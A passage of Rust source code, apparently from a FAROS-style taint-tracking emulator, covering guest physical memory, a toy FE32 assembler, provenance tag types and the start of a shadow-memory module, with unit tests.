pub const PAGE_SIZE: u32 = 4096;

/// Mask selecting the offset-within-page bits of an address.
pub const PAGE_MASK: u32 = PAGE_SIZE - 1;

/// Returns the page/frame number containing `addr`.
#[inline]
pub fn page_number(addr: u32) -> u32 {
    addr >> 12
}

/// Returns the byte offset of `addr` within its page.
#[inline]
pub fn page_offset(addr: u32) -> u32 {
    addr & PAGE_MASK
}

/// Error returned when physical memory is exhausted or an access is out of
/// range.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MemError {
    /// No free frames remain.
    OutOfFrames,
    /// A physical access fell outside the installed memory.
    OutOfRange {
        /// The offending physical address.
        addr: u32,
    },
}

impl fmt::Display for MemError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            MemError::OutOfFrames => write!(f, "physical memory exhausted"),
            MemError::OutOfRange { addr } => {
                write!(f, "physical address {addr:#010x} out of range")
            }
        }
    }
}

impl std::error::Error for MemError {}

/// Flat guest physical memory with a simple frame allocator.
///
/// # Examples
///
/// ```
/// use faros_emu::mem::{PhysMem, PAGE_SIZE};
///
/// let mut mem = PhysMem::new(16);
/// let frame = mem.alloc_frame().unwrap();
/// let base = frame * PAGE_SIZE;
/// mem.write(base, b"hello").unwrap();
/// let mut buf = [0u8; 5];
/// mem.read(base, &mut buf).unwrap();
/// assert_eq!(&buf, b"hello");
/// ```
#[derive(Debug, Clone)]
pub struct PhysMem {
    data: Vec<u8>,
    next_frame: u32,
    free_list: Vec<u32>,
}

impl PhysMem {
    /// Creates a physical memory of `frames` pages, zero-initialized.
    ///
    /// # Panics
    ///
    /// Panics if `frames` is zero or the total size would overflow `u32`.
    pub fn new(frames: u32) -> PhysMem {
        assert!(frames > 0, "physical memory must have at least one frame");
        let bytes = (frames as u64) * (PAGE_SIZE as u64);
        assert!(bytes <= u32::MAX as u64 + 1, "physical memory too large for a 32-bit guest");
        PhysMem {
            data: vec![0u8; bytes as usize],
            next_frame: 0,
            free_list: Vec::new(),
        }
    }

    /// Total number of frames installed.
    pub fn total_frames(&self) -> u32 {
        (self.data.len() as u64 / PAGE_SIZE as u64) as u32
    }

    /// Number of frames still allocatable.
    pub fn free_frames(&self) -> u32 {
        self.total_frames() - self.next_frame + self.free_list.len() as u32
    }

    /// Allocates a zeroed frame and returns its frame number.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfFrames`] when memory is exhausted.
    pub fn alloc_frame(&mut self) -> Result<u32, MemError> {
        if let Some(pfn) = self.free_list.pop() {
            let base = (pfn * PAGE_SIZE) as usize;
            self.data[base..base + PAGE_SIZE as usize].fill(0);
            return Ok(pfn);
        }
        if self.next_frame < self.total_frames() {
            let pfn = self.next_frame;
            self.next_frame += 1;
            Ok(pfn)
        } else {
            Err(MemError::OutOfFrames)
        }
    }

    /// Returns a frame to the allocator.
    ///
    /// The frame's contents are zeroed on the next allocation, not here, so a
    /// forensic snapshot taken after a free still sees stale bytes — the same
    /// property malfind-style tools depend on (and transient attacks defeat
    /// by wiping memory *before* exiting).
    pub fn free_frame(&mut self, pfn: u32) {
        debug_assert!(pfn < self.total_frames());
        self.free_list.push(pfn);
    }

    /// Reads bytes at a physical address into `buf`.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if the range exceeds installed memory.
    pub fn read(&self, addr: u32, buf: &mut [u8]) -> Result<(), MemError> {
        let start = addr as usize;
        let end = start.checked_add(buf.len()).ok_or(MemError::OutOfRange { addr })?;
        let src = self.data.get(start..end).ok_or(MemError::OutOfRange { addr })?;
        buf.copy_from_slice(src);
        Ok(())
    }

    /// Writes `bytes` at a physical address.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if the range exceeds installed memory.
    pub fn write(&mut self, addr: u32, bytes: &[u8]) -> Result<(), MemError> {
        let start = addr as usize;
        let end = start.checked_add(bytes.len()).ok_or(MemError::OutOfRange { addr })?;
        let dst = self.data.get_mut(start..end).ok_or(MemError::OutOfRange { addr })?;
        dst.copy_from_slice(bytes);
        Ok(())
    }

    /// Reads one byte.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if `addr` exceeds installed memory.
    #[inline]
    pub fn read_u8(&self, addr: u32) -> Result<u8, MemError> {
        self.data
            .get(addr as usize)
            .copied()
            .ok_or(MemError::OutOfRange { addr })
    }

    /// Writes one byte.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if `addr` exceeds installed memory.
    #[inline]
    pub fn write_u8(&mut self, addr: u32, val: u8) -> Result<(), MemError> {
        *self
            .data
            .get_mut(addr as usize)
            .ok_or(MemError::OutOfRange { addr })? = val;
        Ok(())
    }

    /// Reads a little-endian `u32`.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if the range exceeds installed memory.
    pub fn read_u32(&self, addr: u32) -> Result<u32, MemError> {
        let mut b = [0u8; 4];
        self.read(addr, &mut b)?;
        Ok(u32::from_le_bytes(b))
    }

    /// Writes a little-endian `u32`.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if the range exceeds installed memory.
    pub fn write_u32(&mut self, addr: u32, val: u32) -> Result<(), MemError> {
        self.write(addr, &val.to_le_bytes())
    }

    /// Borrows a physical byte range (used by snapshot scanners).
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if the range exceeds installed memory.
    pub fn slice(&self, addr: u32, len: usize) -> Result<&[u8], MemError> {
        let start = addr as usize;
        let end = start.checked_add(len).ok_or(MemError::OutOfRange { addr })?;
        self.data.get(start..end).ok_or(MemError::OutOfRange { addr })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn alloc_until_exhaustion() {
        let mut mem = PhysMem::new(4);
        assert_eq!(mem.free_frames(), 4);
        let frames: Vec<u32> = (0..4).map(|_| mem.alloc_frame().unwrap()).collect();
        assert_eq!(frames, vec![0, 1, 2, 3]);
        assert_eq!(mem.alloc_frame(), Err(MemError::OutOfFrames));
        mem.free_frame(2);
        assert_eq!(mem.free_frames(), 1);
        assert_eq!(mem.alloc_frame().unwrap(), 2);
    }

    #[test]
    fn freed_frame_is_zeroed_on_realloc_not_on_free() {
        let mut mem = PhysMem::new(2);
        let f = mem.alloc_frame().unwrap();
        let base = f * PAGE_SIZE;
        mem.write(base, b"secret").unwrap();
        mem.free_frame(f);
        // Stale bytes visible post-free (forensics relies on this).
        assert_eq!(mem.slice(base, 6).unwrap(), b"secret");
        let f2 = mem.alloc_frame().unwrap();
        assert_eq!(f2, f);
        assert_eq!(mem.slice(base, 6).unwrap(), &[0u8; 6]);
    }

    #[test]
    fn read_write_round_trip() {
        let mut mem = PhysMem::new(2);
        mem.write_u32(100, 0xdead_beef).unwrap();
        assert_eq!(mem.read_u32(100).unwrap(), 0xdead_beef);
        assert_eq!(mem.read_u8(100).unwrap(), 0xef, "little-endian layout");
        mem.write_u8(103, 0x00).unwrap();
        assert_eq!(mem.read_u32(100).unwrap(), 0x00ad_beef);
    }

    #[test]
    fn out_of_range_is_an_error() {
        let mut mem = PhysMem::new(1);
        assert!(mem.read_u8(PAGE_SIZE).is_err());
        assert!(mem.write_u8(PAGE_SIZE, 0).is_err());
        let mut buf = [0u8; 8];
        assert!(mem.read(PAGE_SIZE - 4, &mut buf).is_err());
        assert!(mem.write(PAGE_SIZE - 4, &buf).is_err());
        assert!(mem.read_u32(u32::MAX).is_err());
    }

    #[test]
    fn page_arithmetic() {
        assert_eq!(page_number(0), 0);
        assert_eq!(page_number(4095), 0);
        assert_eq!(page_number(4096), 1);
        assert_eq!(page_offset(4097), 1);
    }

    #[test]
    #[should_panic(expected = "at least one frame")]
    fn zero_frames_rejected() {
        let _ = PhysMem::new(0);
    }
}
