//! A two-pass FE32 assembler with labels.
//!
//! The attack and workload corpus (`faros-corpus`) builds every guest program
//! with this assembler: loaders, injected payloads, RAT clients, the mini-JIT
//! — all of them become plain FE32 bytes in guest memory, which is what lets
//! the DIFT engine tag and track them.
//!
//! # Examples
//!
//! ```
//! use faros_emu::asm::Asm;
//! use faros_emu::isa::Reg;
//!
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let mut asm = Asm::new(0x40_0000);
//! asm.mov_ri(Reg::Ecx, 10);
//! asm.mov_ri(Reg::Eax, 0);
//! asm.label("top");
//! asm.add_ri(Reg::Eax, 3);
//! asm.sub_ri(Reg::Ecx, 1);
//! asm.cmp_ri(Reg::Ecx, 0);
//! asm.jnz("top");
//! asm.hlt();
//! let code = asm.assemble()?;
//! assert!(!code.is_empty());
//! # Ok(())
//! # }
//! ```

use crate::encode::encode_into;
use crate::isa::{AluOp, Cond, Instr, Mem, Operand, Reg, Width, SYSCALL_VECTOR};
use std::collections::HashMap;
use std::fmt;

/// Error produced while assembling a program.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AsmError {
    /// A branch references a label that was never defined.
    UndefinedLabel(String),
    /// The same label was defined twice.
    DuplicateLabel(String),
}

impl fmt::Display for AsmError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AsmError::UndefinedLabel(l) => write!(f, "undefined label `{l}`"),
            AsmError::DuplicateLabel(l) => write!(f, "duplicate label `{l}`"),
        }
    }
}

impl std::error::Error for AsmError {}

#[derive(Debug, Clone)]
struct Fixup {
    /// Byte offset of the 4-byte rel field within `bytes`.
    field_at: usize,
    /// Offset of the first byte after the instruction (rel is relative to it).
    next: usize,
    label: String,
}

/// The assembler. Instructions are appended through the mnemonic methods;
/// [`Asm::assemble`] resolves label fixups and returns the image.
#[derive(Debug, Clone)]
pub struct Asm {
    base: u32,
    bytes: Vec<u8>,
    labels: HashMap<String, usize>,
    fixups: Vec<Fixup>,
    duplicate: Option<String>,
}

impl Asm {
    /// Creates an assembler for code to be loaded at virtual address `base`.
    pub fn new(base: u32) -> Asm {
        Asm {
            base,
            bytes: Vec::new(),
            labels: HashMap::new(),
            fixups: Vec::new(),
            duplicate: None,
        }
    }

    /// The load address the program is being assembled for.
    pub fn base(&self) -> u32 {
        self.base
    }

    /// Current offset from `base`, i.e. the address of the next instruction.
    pub fn here(&self) -> u32 {
        self.base + self.bytes.len() as u32
    }

    /// Defines a label at the current position.
    pub fn label(&mut self, name: &str) -> &mut Asm {
        if self.labels.insert(name.to_string(), self.bytes.len()).is_some() {
            self.duplicate.get_or_insert_with(|| name.to_string());
        }
        self
    }

    /// Returns the virtual address of a previously defined label.
    pub fn addr_of(&self, name: &str) -> Option<u32> {
        self.labels.get(name).map(|&off| self.base + off as u32)
    }

    fn emit(&mut self, instr: Instr) -> &mut Asm {
        encode_into(&instr, &mut self.bytes);
        self
    }

    fn emit_branch(&mut self, instr: Instr, label: &str) -> &mut Asm {
        // Encode with rel = 0, then record a fixup over the trailing 4 bytes.
        encode_into(&instr, &mut self.bytes);
        let next = self.bytes.len();
        self.fixups.push(Fixup {
            field_at: next - 4,
            next,
            label: label.to_string(),
        });
        self
    }

    /// Emits raw bytes (e.g. embedded data or deliberately invalid code).
    pub fn raw(&mut self, bytes: &[u8]) -> &mut Asm {
        self.bytes.extend_from_slice(bytes);
        self
    }

    /// Emits a little-endian `u32` data word.
    pub fn dd(&mut self, val: u32) -> &mut Asm {
        self.bytes.extend_from_slice(&val.to_le_bytes());
        self
    }

    // --- moves ---

    /// `mov dst, src`
    pub fn mov_rr(&mut self, dst: Reg, src: Reg) -> &mut Asm {
        self.emit(Instr::MovRR { dst, src })
    }

    /// `mov dst, imm`
    pub fn mov_ri(&mut self, dst: Reg, imm: u32) -> &mut Asm {
        self.emit(Instr::MovRI { dst, imm })
    }

    /// `mov dst, <address of label>` — resolved at assembly time.
    pub fn mov_label(&mut self, dst: Reg, label: &str) -> &mut Asm {
        // Encoded as MovRI whose imm field gets an absolute fixup; reuse the
        // relative machinery by noting imm = base + label_off, i.e. rel
        // relative to 0 rather than to `next`. Easiest: emit now, patch in
        // assemble() via a dedicated fixup with next == usize::MAX marker.
        self.emit(Instr::MovRI { dst, imm: 0 });
        let next = self.bytes.len();
        self.fixups.push(Fixup {
            field_at: next - 4,
            next: usize::MAX, // absolute
            label: label.to_string(),
        });
        self
    }

    // --- loads/stores ---

    /// `ld1 dst, [mem]` (byte load, zero-extended)
    pub fn ld1(&mut self, dst: Reg, mem: Mem) -> &mut Asm {
        self.emit(Instr::Load { dst, mem, width: Width::B1 })
    }

    /// `ld2 dst, [mem]` (halfword load, zero-extended)
    pub fn ld2(&mut self, dst: Reg, mem: Mem) -> &mut Asm {
        self.emit(Instr::Load { dst, mem, width: Width::B2 })
    }

    /// `ld4 dst, [mem]` (word load)
    pub fn ld4(&mut self, dst: Reg, mem: Mem) -> &mut Asm {
        self.emit(Instr::Load { dst, mem, width: Width::B4 })
    }

    /// `st1 [mem], src` (byte store)
    pub fn st1(&mut self, mem: Mem, src: Reg) -> &mut Asm {
        self.emit(Instr::Store { mem, src, width: Width::B1 })
    }

    /// `st2 [mem], src` (halfword store)
    pub fn st2(&mut self, mem: Mem, src: Reg) -> &mut Asm {
        self.emit(Instr::Store { mem, src, width: Width::B2 })
    }

    /// `st4 [mem], src` (word store)
    pub fn st4(&mut self, mem: Mem, src: Reg) -> &mut Asm {
        self.emit(Instr::Store { mem, src, width: Width::B4 })
    }

    /// `lea dst, [mem]`
    pub fn lea(&mut self, dst: Reg, mem: Mem) -> &mut Asm {
        self.emit(Instr::Lea { dst, mem })
    }

    // --- ALU ---

    /// `add dst, src`
    pub fn add_rr(&mut self, dst: Reg, src: Reg) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Add, dst, src: Operand::Reg(src) })
    }

    /// `add dst, imm`
    pub fn add_ri(&mut self, dst: Reg, imm: u32) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Add, dst, src: Operand::Imm(imm) })
    }

    /// `sub dst, src`
    pub fn sub_rr(&mut self, dst: Reg, src: Reg) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Sub, dst, src: Operand::Reg(src) })
    }

    /// `sub dst, imm`
    pub fn sub_ri(&mut self, dst: Reg, imm: u32) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Sub, dst, src: Operand::Imm(imm) })
    }

    /// `and dst, src`
    pub fn and_rr(&mut self, dst: Reg, src: Reg) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::And, dst, src: Operand::Reg(src) })
    }

    /// `and dst, imm`
    pub fn and_ri(&mut self, dst: Reg, imm: u32) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::And, dst, src: Operand::Imm(imm) })
    }

    /// `or dst, src`
    pub fn or_rr(&mut self, dst: Reg, src: Reg) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Or, dst, src: Operand::Reg(src) })
    }

    /// `or dst, imm`
    pub fn or_ri(&mut self, dst: Reg, imm: u32) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Or, dst, src: Operand::Imm(imm) })
    }

    /// `xor dst, src` — `xor r, r` is the canonical taint-delete idiom.
    pub fn xor_rr(&mut self, dst: Reg, src: Reg) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Xor, dst, src: Operand::Reg(src) })
    }

    /// `xor dst, imm`
    pub fn xor_ri(&mut self, dst: Reg, imm: u32) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Xor, dst, src: Operand::Imm(imm) })
    }

    /// `mul dst, src`
    pub fn mul_rr(&mut self, dst: Reg, src: Reg) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Mul, dst, src: Operand::Reg(src) })
    }

    /// `mul dst, imm`
    pub fn mul_ri(&mut self, dst: Reg, imm: u32) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Mul, dst, src: Operand::Imm(imm) })
    }

    /// `shl dst, imm`
    pub fn shl_ri(&mut self, dst: Reg, imm: u32) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Shl, dst, src: Operand::Imm(imm) })
    }

    /// `shr dst, imm`
    pub fn shr_ri(&mut self, dst: Reg, imm: u32) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Shr, dst, src: Operand::Imm(imm) })
    }

    /// `shl dst, src`
    pub fn shl_rr(&mut self, dst: Reg, src: Reg) -> &mut Asm {
        self.emit(Instr::Alu { op: AluOp::Shl, dst, src: Operand::Reg(src) })
    }

    // --- compare/test ---

    /// `cmp a, b`
    pub fn cmp_rr(&mut self, a: Reg, b: Reg) -> &mut Asm {
        self.emit(Instr::Cmp { a, b: Operand::Reg(b) })
    }

    /// `cmp a, imm`
    pub fn cmp_ri(&mut self, a: Reg, imm: u32) -> &mut Asm {
        self.emit(Instr::Cmp { a, b: Operand::Imm(imm) })
    }

    /// `test a, b`
    pub fn test_rr(&mut self, a: Reg, b: Reg) -> &mut Asm {
        self.emit(Instr::Test { a, b: Operand::Reg(b) })
    }

    /// `test a, imm`
    pub fn test_ri(&mut self, a: Reg, imm: u32) -> &mut Asm {
        self.emit(Instr::Test { a, b: Operand::Imm(imm) })
    }

    // --- control flow ---

    /// `jmp label`
    pub fn jmp(&mut self, label: &str) -> &mut Asm {
        self.emit_branch(Instr::Jmp { rel: 0 }, label)
    }

    fn jcc(&mut self, cond: Cond, label: &str) -> &mut Asm {
        self.emit_branch(Instr::Jcc { cond, rel: 0 }, label)
    }

    /// `jz label`
    pub fn jz(&mut self, label: &str) -> &mut Asm {
        self.jcc(Cond::Z, label)
    }

    /// `jnz label`
    pub fn jnz(&mut self, label: &str) -> &mut Asm {
        self.jcc(Cond::Nz, label)
    }

    /// `jl label`
    pub fn jl(&mut self, label: &str) -> &mut Asm {
        self.jcc(Cond::L, label)
    }

    /// `jge label`
    pub fn jge(&mut self, label: &str) -> &mut Asm {
        self.jcc(Cond::Ge, label)
    }

    /// `jg label`
    pub fn jg(&mut self, label: &str) -> &mut Asm {
        self.jcc(Cond::G, label)
    }

    /// `jle label`
    pub fn jle(&mut self, label: &str) -> &mut Asm {
        self.jcc(Cond::Le, label)
    }

    /// `jb label`
    pub fn jb(&mut self, label: &str) -> &mut Asm {
        self.jcc(Cond::B, label)
    }

    /// `jae label`
    pub fn jae(&mut self, label: &str) -> &mut Asm {
        self.jcc(Cond::Ae, label)
    }

    /// `call label`
    pub fn call(&mut self, label: &str) -> &mut Asm {
        self.emit_branch(Instr::Call { rel: 0 }, label)
    }

    /// `call reg`
    pub fn call_reg(&mut self, target: Reg) -> &mut Asm {
        self.emit(Instr::CallReg { target })
    }

    /// `jmp reg`
    pub fn jmp_reg(&mut self, target: Reg) -> &mut Asm {
        self.emit(Instr::JmpReg { target })
    }

    /// `ret`
    pub fn ret(&mut self) -> &mut Asm {
        self.emit(Instr::Ret)
    }

    // --- stack ---

    /// `push src`
    pub fn push(&mut self, src: Reg) -> &mut Asm {
        self.emit(Instr::Push { src })
    }

    /// `push imm`
    pub fn push_imm(&mut self, imm: u32) -> &mut Asm {
        self.emit(Instr::PushImm { imm })
    }

    /// `pop dst`
    pub fn pop(&mut self, dst: Reg) -> &mut Asm {
        self.emit(Instr::Pop { dst })
    }

    // --- system ---

    /// `int 0x2e` — the syscall gate.
    pub fn int_syscall(&mut self) -> &mut Asm {
        self.emit(Instr::Int { vector: SYSCALL_VECTOR })
    }

    /// `hlt` — thread exit.
    pub fn hlt(&mut self) -> &mut Asm {
        self.emit(Instr::Hlt)
    }

    /// `nop`
    pub fn nop(&mut self) -> &mut Asm {
        self.emit(Instr::Nop)
    }

    /// Resolves fixups and returns the final byte image.
    ///
    /// # Errors
    ///
    /// Returns [`AsmError::UndefinedLabel`] for a branch to a label that was
    /// never defined and [`AsmError::DuplicateLabel`] if any label was
    /// defined more than once.
    pub fn assemble(mut self) -> Result<Vec<u8>, AsmError> {
        if let Some(dup) = self.duplicate.take() {
            return Err(AsmError::DuplicateLabel(dup));
        }
        for fixup in &self.fixups {
            let &target_off = self
                .labels
                .get(&fixup.label)
                .ok_or_else(|| AsmError::UndefinedLabel(fixup.label.clone()))?;
            let value: u32 = if fixup.next == usize::MAX {
                // Absolute address fixup (mov_label).
                self.base + target_off as u32
            } else {
                (target_off as i64 - fixup.next as i64) as u32
            };
            self.bytes[fixup.field_at..fixup.field_at + 4]
                .copy_from_slice(&value.to_le_bytes());
        }
        Ok(self.bytes)
    }

    /// Like [`Asm::assemble`], also returning the label table (virtual
    /// addresses) — the corpus uses this to find payload entry points.
    ///
    /// # Errors
    ///
    /// Same as [`Asm::assemble`].
    pub fn assemble_with_labels(self) -> Result<(Vec<u8>, HashMap<String, u32>), AsmError> {
        let base = self.base;
        let labels: HashMap<String, u32> = self
            .labels
            .iter()
            .map(|(k, &off)| (k.clone(), base + off as u32))
            .collect();
        let bytes = self.assemble()?;
        Ok((bytes, labels))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::encode::decode;

    #[test]
    fn forward_and_backward_branches_resolve() {
        let mut a = Asm::new(0x1000);
        a.label("start");
        a.jmp("end"); // forward
        a.nop();
        a.label("end");
        a.jmp("start"); // backward
        let bytes = a.assemble().unwrap();
        // First: jmp rel; rel should skip the nop (1 byte).
        let (i1, l1) = decode(&bytes).unwrap();
        assert_eq!(i1, Instr::Jmp { rel: 1 });
        // Second jmp at offset l1+1 targets offset 0.
        let off2 = l1 + 1;
        let (i2, l2) = decode(&bytes[off2..]).unwrap();
        assert_eq!(i2, Instr::Jmp { rel: -((off2 + l2) as i32) });
    }

    #[test]
    fn undefined_label_is_an_error() {
        let mut a = Asm::new(0);
        a.jmp("nowhere");
        assert_eq!(a.assemble(), Err(AsmError::UndefinedLabel("nowhere".into())));
    }

    #[test]
    fn duplicate_label_is_an_error() {
        let mut a = Asm::new(0);
        a.label("x");
        a.nop();
        a.label("x");
        assert_eq!(a.assemble(), Err(AsmError::DuplicateLabel("x".into())));
    }

    #[test]
    fn mov_label_resolves_absolute_address() {
        let mut a = Asm::new(0x2000);
        a.mov_label(Reg::Eax, "data");
        a.hlt();
        a.label("data");
        a.dd(0xdead_beef);
        let (bytes, labels) = a.assemble_with_labels().unwrap();
        let (i, _) = decode(&bytes).unwrap();
        assert_eq!(i, Instr::MovRI { dst: Reg::Eax, imm: labels["data"] });
    }

    #[test]
    fn addr_of_tracks_position() {
        let mut a = Asm::new(0x1000);
        a.nop();
        a.label("after_nop");
        assert_eq!(a.addr_of("after_nop"), Some(0x1001));
        assert_eq!(a.addr_of("missing"), None);
    }

    #[test]
    fn here_reflects_emitted_bytes() {
        let mut a = Asm::new(0x1000);
        assert_eq!(a.here(), 0x1000);
        a.nop(); // 1 byte
        assert_eq!(a.here(), 0x1001);
        a.mov_ri(Reg::Eax, 0); // 6 bytes
        assert_eq!(a.here(), 0x1007);
    }

    #[test]
    fn raw_and_dd_emit_verbatim() {
        let mut a = Asm::new(0);
        a.raw(&[1, 2, 3]);
        a.dd(0x0403_0201);
        let bytes = a.assemble().unwrap();
        assert_eq!(bytes, vec![1, 2, 3, 1, 2, 3, 4]);
    }
}
