//! Provenance tags — the `prov_tag` of FAROS §V-A.
//!
//! FAROS distinguishes four tag *types* (netflow, process, file,
//! export-table) and represents a tag as three bytes: one type byte plus a
//! 16-bit index into the per-type hash map (paper Fig. 6). This module
//! defines that compact tag plus the rich per-type payloads the indexes
//! refer to (paper Fig. 5).

use std::fmt;

/// The four provenance tag types of FAROS.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[repr(u8)]
pub enum TagKind {
    /// The byte came from a particular network flow.
    Netflow = 0,
    /// A process touched the byte (tag payload is the CR3 value).
    Process = 1,
    /// The byte was read from / written to a file.
    File = 2,
    /// The byte belongs to the kernel region holding module export tables,
    /// where linking and loading operations occur.
    ExportTable = 3,
}

impl TagKind {
    /// All tag kinds.
    pub const ALL: [TagKind; 4] =
        [TagKind::Netflow, TagKind::Process, TagKind::File, TagKind::ExportTable];

    /// Decodes a kind from its type byte.
    pub fn from_byte(b: u8) -> Option<TagKind> {
        TagKind::ALL.get(b as usize).copied()
    }
}

impl fmt::Display for TagKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            TagKind::Netflow => "netflow",
            TagKind::Process => "process",
            TagKind::File => "file",
            TagKind::ExportTable => "export-table",
        };
        f.write_str(s)
    }
}

/// A compact three-byte provenance tag: type byte + index into the
/// corresponding tag table (paper Fig. 6).
///
/// # Examples
///
/// ```
/// use faros_taint::tag::{ProvTag, TagKind};
///
/// let tag = ProvTag::new(TagKind::Netflow, 7);
/// let bytes = tag.to_bytes();
/// assert_eq!(ProvTag::from_bytes(bytes), Some(tag));
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ProvTag {
    kind: TagKind,
    index: u16,
}

impl ProvTag {
    /// Creates a tag of `kind` referring to table slot `index`.
    pub fn new(kind: TagKind, index: u16) -> ProvTag {
        ProvTag { kind, index }
    }

    /// The export-table tag. It carries no payload (FAROS keeps no hash map
    /// for it, §V-A), so a single canonical value suffices.
    pub const EXPORT_TABLE: ProvTag = ProvTag { kind: TagKind::ExportTable, index: 0 };

    /// The tag's type.
    pub fn kind(self) -> TagKind {
        self.kind
    }

    /// The tag's index into its type's table.
    pub fn index(self) -> u16 {
        self.index
    }

    /// Serializes to the paper's three-byte wire format.
    pub fn to_bytes(self) -> [u8; 3] {
        let idx = self.index.to_le_bytes();
        [self.kind as u8, idx[0], idx[1]]
    }

    /// Deserializes from the three-byte wire format.
    ///
    /// Returns `None` if the type byte is invalid.
    pub fn from_bytes(bytes: [u8; 3]) -> Option<ProvTag> {
        Some(ProvTag {
            kind: TagKind::from_byte(bytes[0])?,
            index: u16::from_le_bytes([bytes[1], bytes[2]]),
        })
    }
}

impl fmt::Display for ProvTag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}#{}", self.kind, self.index)
    }
}

/// Payload of a netflow tag: the flow 4-tuple (paper Fig. 5).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct NetflowTag {
    /// Source IPv4 address.
    pub src_ip: [u8; 4],
    /// Source port.
    pub src_port: u16,
    /// Destination IPv4 address.
    pub dst_ip: [u8; 4],
    /// Destination port.
    pub dst_port: u16,
}

impl fmt::Display for NetflowTag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{{src ip,port: {}.{}.{}.{}:{}, dest ip,port: {}.{}.{}.{}:{}}}",
            self.src_ip[0],
            self.src_ip[1],
            self.src_ip[2],
            self.src_ip[3],
            self.src_port,
            self.dst_ip[0],
            self.dst_ip[1],
            self.dst_ip[2],
            self.dst_ip[3],
            self.dst_port,
        )
    }
}

/// Payload of a process tag: the CR3 value that uniquely identifies the
/// process at the architecture level, plus the image name for reports.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct ProcessTag {
    /// The CR3 (page-table root / address-space id) value.
    pub cr3: u32,
    /// Image name, e.g. `inject_client.exe` (for analyst-facing output; the
    /// CR3 value alone is the identity).
    pub name: String,
}

impl fmt::Display for ProcessTag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.name)
    }
}

/// Payload of a file tag: name plus an access-version counter (paper Fig. 5:
/// "a version that indicates how many times a file has been accessed").
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct FileTag {
    /// File path within the guest filesystem.
    pub name: String,
    /// Access version.
    pub version: u32,
}

impl fmt::Display for FileTag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} (v{})", self.name, self.version)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tag_wire_round_trip() {
        for kind in TagKind::ALL {
            for index in [0u16, 1, 255, 256, u16::MAX] {
                let t = ProvTag::new(kind, index);
                assert_eq!(ProvTag::from_bytes(t.to_bytes()), Some(t));
            }
        }
    }

    #[test]
    fn invalid_type_byte_rejected() {
        assert_eq!(ProvTag::from_bytes([4, 0, 0]), None);
        assert_eq!(ProvTag::from_bytes([255, 1, 2]), None);
    }

    #[test]
    fn wire_format_is_three_bytes_type_first() {
        let t = ProvTag::new(TagKind::File, 0x1234);
        assert_eq!(t.to_bytes(), [2, 0x34, 0x12]);
    }

    #[test]
    fn netflow_display_matches_paper_table2_style() {
        let nf = NetflowTag {
            src_ip: [169, 254, 26, 161],
            src_port: 4444,
            dst_ip: [169, 254, 57, 168],
            dst_port: 49162,
        };
        assert_eq!(
            nf.to_string(),
            "{src ip,port: 169.254.26.161:4444, dest ip,port: 169.254.57.168:49162}"
        );
    }

    #[test]
    fn kind_display() {
        assert_eq!(TagKind::ExportTable.to_string(), "export-table");
        assert_eq!(TagKind::Netflow.to_string(), "netflow");
    }
}
