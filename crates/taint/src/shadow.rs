//! Shadow memory and the shadow register bank (paper §V-A).
//!
//! Every guest *physical* byte and every CPU register byte has a shadow cell
//! holding a [`ListId`] — the interned provenance list of that byte. Keying
//! by physical address (rather than virtual) is what lets a tag follow a
//! byte when it is written into another process's address space.

use crate::provlist::ListId;
use std::collections::HashMap;

/// Number of register slots shadowed (generous upper bound; FE32 uses 8).
pub const SHADOW_REGS: usize = 16;

/// A byte-granular shadow address: one guest physical memory byte or one
/// register byte.
///
/// This mirrors `faros_emu::ShadowLoc`; the two are kept separate so the
/// taint engine stays independent of any particular emulator.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ShadowAddr {
    /// A guest physical memory byte.
    Mem(u32),
    /// Byte `off` (0..4) of register `index`.
    Reg {
        /// Register-file index.
        index: u8,
        /// Byte offset within the register.
        off: u8,
    },
}

impl ShadowAddr {
    /// The shadow address `n` bytes after this one.
    ///
